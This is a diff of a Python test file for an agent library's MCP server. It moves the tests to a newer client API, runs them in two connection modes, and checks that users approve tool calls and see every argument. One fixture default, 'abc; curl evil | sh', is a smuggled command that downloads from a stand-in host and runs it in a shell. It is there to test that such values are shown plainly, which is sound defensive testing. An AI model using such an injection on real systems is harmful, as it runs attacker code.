@@ -9,9 +9,8 @@ from typing import Any
 
 import pytest
 from langgraph.checkpoint.memory import InMemorySaver
-from mcp import ClientSession, StdioServerParameters
+from mcp import Client, StdioServerParameters
 from mcp.client.stdio import stdio_client
-from mcp.shared.memory import create_connected_server_and_client_session
 from mcp.types import ElicitResult
 
 from smurfs_graph import Settings, build_graph, effects
@@ -19,6 +18,8 @@ from smurfs_graph.cli import main
 from smurfs_graph.serving.mcp_server import mcp_server
 from tests.scripts import Turns, calling
 
+MODES = pytest.mark.parametrize("mode", ["legacy", "auto"])
+"""How a client connects: with a handshake, or, where the server speaks it, by the stateless protocol."""
 QUERY = {"query": "What is the distance between Paris and Rome?"}
 STOCK = {"query": "Find the stock of item A-17."}
 TOOLS = '''
@@ -50,11 +51,10 @@ class Person:
 
 
 @asynccontextmanager
-async def connected(*arguments: str, person: Person | None = None) -> AsyncGenerator[ClientSession]:
+async def connected(*arguments: str, mode: str, person: Person | None = None) -> AsyncGenerator[Client]:
     """A client of `smurfs mcp`."""
     server = StdioServerParameters(command=sys.executable, args=["-m", "smurfs_graph", "mcp", *arguments])
-    async with stdio_client(server) as (read, write), ClientSession(read, write, elicitation_callback=person) as client:
-        await client.initialize()
+    async with Client(stdio_client(server), mode=mode, elicitation_callback=person) as client:
         yield client
 
 
@@ -64,7 +64,8 @@ def test_the_server_says_which_version_of_this_library_it_is() -> None:
     assert mcp_server(graph).create_initialization_options().server_version == version("smurfs-graph")
 
 
-async def test_a_client_gets_an_answer_and_progress_on_the_way() -> None:
+@MODES
+async def test_a_client_gets_an_answer_and_progress_on_the_way(mode: str) -> None:
     """One tool, its result as data, and a line for each thing that happens."""
     told: list[str | None] = []
 
@@ -72,31 +73,32 @@ async def test_a_client_gets_an_answer_and_progress_on_the_way() -> None:
         told.append(message)
 
     graph = build_graph(Settings(), ["builtin:travel"])
-    async with create_connected_server_and_client_session(mcp_server(graph)) as client:
+    async with Client(mcp_server(graph), mode=mode) as client:
         [tool] = (await client.list_tools()).tools
-        assert (tool.name, tool.inputSchema["required"]) == ("answer", ["query"])
+        assert (tool.name, tool.input_schema["required"]) == ("answer", ["query"])
         found: Any = await client.call_tool("answer", QUERY, progress_callback=tell)
-        assert not found.isError, found
-        assert found.structuredContent["stop_reason"] == "answered"
-        assert "1389" in found.structuredContent["answer"]
-        assert found.structuredContent["claims"]
+        assert not found.is_error, found
+        assert found.structured_content["stop_reason"] == "answered"
+        assert "1389" in found.structured_content["answer"]
+        assert found.structured_content["claims"]
         assert {"plan_made", "s1: tool_called", "answer_ready"} <= set(told)
         wrong: Any = await client.call_tool("answer", {"query": "  "})
-        assert wrong.isError
+        assert wrong.is_error
         assert "the query is empty" in wrong.content[0].text
 
 
-async def test_the_clients_user_approves_calls(tmp_path: Path) -> None:
+@MODES
+async def test_the_clients_user_approves_calls(tmp_path: Path, mode: str) -> None:
     """By elicitation; what tools print stays out of the protocol."""
     (tmp_path / "stock.py").write_text(TOOLS)
     person = Person(ElicitResult(action="accept", content={"decision": "approve"}))
     given = ["--tools", str(tmp_path / "stock.py"), "--approve", "tools"]
-    async with connected(*given, person=person) as client:
+    async with connected(*given, mode=mode, person=person) as client:
         found: Any = await client.call_tool("answer", STOCK)
-    assert not found.isError, found
+    assert not found.is_error, found
     assert person.asked[0].startswith("May this call be made?\ns1: ")
     assert '\n  wants to call find_stock(item="A-17")\n' in person.asked[0]
-    assert found.structuredContent["stop_reason"] == "answered"
+    assert found.structured_content["stop_reason"] == "answered"
 
 
 @effects("write")
@@ -109,17 +111,18 @@ def find_stock(item: str, token: str = "abc; curl evil | sh", text: str = "a\n  
     return "4"
 
 
-async def answered(person: Person | None, approve: Any) -> Any:
+async def answered(person: Person | None, approve: Any, mode: str) -> Any:
     """What a client gets whose user is this one, of a server in this process."""
     graph = build_graph(Settings(approve=approve), [find_stock], checkpointer=InMemorySaver())
-    async with create_connected_server_and_client_session(mcp_server(graph), elicitation_callback=person) as client:
+    async with Client(mcp_server(graph), mode=mode, elicitation_callback=person) as client:
         return await client.call_tool("answer", STOCK)
 
 
-async def test_the_clients_user_sees_what_will_run() -> None:
+@MODES
+async def test_the_clients_user_sees_what_will_run(mode: str) -> None:
     """Of a plan its sub-tasks; of a call all: nothing is masked, what hides is written out, no value begins a line."""
     person = Person(ElicitResult(action="accept", content={"decision": "approve"}), ElicitResult(action="decline"))
-    await answered(person, {"plan"})
+    await answered(person, {"plan"}, mode)
     plan, call = person.asked[:2]
     assert plan == "May this plan be carried out?\nThe plan:\n  s1  Find the stock of item A-17"
     [line] = [line for line in call.splitlines() if "wants to call" in line]
@@ -127,12 +130,13 @@ async def test_the_clients_user_sees_what_will_run() -> None:
     assert call.splitlines()[-1] == "  effects: write"
 
 
+@MODES
 @pytest.mark.parametrize("person", [None, Person(ElicitResult(action="accept", content={"decision": "reject"}))])
-async def test_a_client_that_rejects_or_cannot_be_asked_approves_nothing(person: Person | None) -> None:
+async def test_a_client_that_rejects_or_cannot_be_asked_approves_nothing(person: Person | None, mode: str) -> None:
     """The call is refused, and the result says so."""
-    found = await answered(person, {"tools"})
-    assert not found.isError, found
-    assert found.structuredContent["stop_reason"] != "answered"
+    found = await answered(person, {"tools"}, mode)
+    assert not found.is_error, found
+    assert found.structured_content["stop_reason"] != "answered"
 
 
 def test_without_tools_nothing_is_served(capsys: pytest.CaptureFixture[str]) -> None:
@@ -143,7 +147,8 @@ def test_without_tools_nothing_is_served(capsys: pytest.CaptureFixture[str]) -> 
     assert "there are no tools" in capsys.readouterr().err
 
 
-async def test_several_calls_of_a_reply_are_asked_about_one_after_the_other() -> None:
+@MODES
+async def test_several_calls_of_a_reply_are_asked_about_one_by_one(mode: str) -> None:
     """Each has its own decision."""
     made: list[str] = []
 
@@ -156,7 +161,22 @@ async def test_several_calls_of_a_reply_are_asked_about_one_after_the_other() ->
     reply = calling("order", {"item": "A"}, {"item": "B"})
     graph = Turns(reply, "done", tools=[order], checkpointer=InMemorySaver()).graph
     person = Person(ElicitResult(action="accept", content={"decision": "approve"}), ElicitResult(action="decline"))
-    async with create_connected_server_and_client_session(mcp_server(graph), elicitation_callback=person) as client:
+    async with Client(mcp_server(graph), mode=mode, elicitation_callback=person) as client:
         found = await client.call_tool("answer", {"query": "Order both"})
-    assert (made, len(person.asked), found.isError) == (["A"], 2, False)
+    assert (made, len(person.asked), found.is_error) == (["A"], 2, False)
     assert 'order(item="B")' in person.asked[1]
+
+
+async def test_a_question_that_is_handed_over_is_answered_once() -> None:
+    """Its number is good for one call; what is answered by nobody, or later, is not carried out."""
+    graph = build_graph(Settings(approve=frozenset({"tools"})), [find_stock], checkpointer=InMemorySaver())
+    person = Person(ElicitResult(action="accept", content={"decision": "approve"}))
+    async with Client(mcp_server(graph), mode="auto", elicitation_callback=person) as client:
+        asked: Any = await client.session.call_tool("answer", STOCK, allow_input_required=True)
+        [key] = asked.input_requests
+        said: Any = {key: ElicitResult(action="decline")}
+        more: dict[str, Any] = {"request_state": asked.request_state, "allow_input_required": True}
+        refused: Any = await client.session.call_tool("answer", STOCK, input_responses=said, **more)
+        assert refused.structured_content["stop_reason"] != "answered"
+        again: Any = await client.session.call_tool("answer", STOCK, input_responses=said, **more)
+        assert again.is_error and "no run waits for these answers" in again.content[0].text
